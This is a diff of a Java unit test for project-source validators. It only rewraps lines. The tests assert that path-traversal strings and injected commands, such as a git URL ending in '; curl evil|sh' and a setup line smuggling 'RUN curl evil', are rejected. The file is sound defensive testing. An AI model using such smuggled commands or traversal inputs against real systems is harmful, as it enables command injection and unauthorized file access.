@@ -9,17 +9,26 @@ class ProjectRulesTest {
   @Test
   void depotPathsAndGitUrlsHaveNoParentSegments() {
     assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/kernel/...").matches()).isTrue();
-    assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/kernel/../secret/...").matches()).isFalse();
+    assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/kernel/../secret/...").matches())
+        .isFalse();
     assertThat(ProjectSource.DEPOT_PATH.matcher("//depot/x/...../../../etc").matches()).isFalse();
-    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/kernel.git").matches()).isTrue();
-    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/a/../b.git").matches()).isFalse();
+    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/kernel.git").matches())
+        .isTrue();
+    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/a/../b.git").matches())
+        .isFalse();
     assertThat(ProjectSource.GIT_URL.matcher("file:///srv/git/..").matches()).isFalse();
-    assertThat(ProjectSource.GIT_URL.matcher("https://git.example.com/x.git; curl evil|sh").matches()).isFalse();
+    assertThat(
+            ProjectSource.GIT_URL.matcher("https://git.example.com/x.git; curl evil|sh").matches())
+        .isFalse();
   }
 
   @Test
   void aSetupLineIsOnePrintableLineNotEndingInABackslash() {
-    assertThat(ProjectConfig.SETUP_COMMAND.matcher("apt-get install -y vim && echo ok > /etc/motd").matches()).isTrue();
+    assertThat(
+            ProjectConfig.SETUP_COMMAND
+                .matcher("apt-get install -y vim && echo ok > /etc/motd")
+                .matches())
+        .isTrue();
     assertThat(ProjectConfig.SETUP_COMMAND.matcher("echo a \\").matches()).isFalse();
     assertThat(ProjectConfig.SETUP_COMMAND.matcher("echo a\nRUN curl evil").matches()).isFalse();
     assertThat(ProjectConfig.SETUP_COMMAND.matcher("x".repeat(1025)).matches()).isFalse();
